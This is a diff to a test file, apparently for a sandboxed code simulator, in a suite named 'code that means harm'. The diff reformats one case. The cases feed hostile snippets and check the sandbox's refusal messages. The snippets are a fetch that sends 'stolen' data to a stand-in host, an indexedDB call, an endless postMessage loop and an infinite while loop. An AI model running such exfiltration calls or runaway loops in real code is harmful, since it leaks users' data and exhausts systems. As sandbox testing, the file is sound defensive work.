@@ -228,7 +228,11 @@ test.describe('code that means harm', () => {
   test.use({ allowedErrors: [/Content Security Policy/, /EvalError/] })
 
   const cases: [title: string, code: string, sentence: RegExp][] = [
-    ['fetch', "fetch('https://example.org/?stolen')", /No node here answers at https:\/\/example\.org/],
+    [
+      'fetch',
+      "fetch('https://example.org/?stolen')",
+      /No node here answers at https:\/\/example\.org/,
+    ],
     ['indexedDB', "indexedDB.open('faultline')", /"indexedDB\.open" does not exist in a simulated/],
     ['postMessage', 'for (;;) postMessage(1)', /"postMessage" does not exist in a simulated/],
     ['an endless loop', 'while (true);', /stopped at its bound of \d+ steps of orders/],
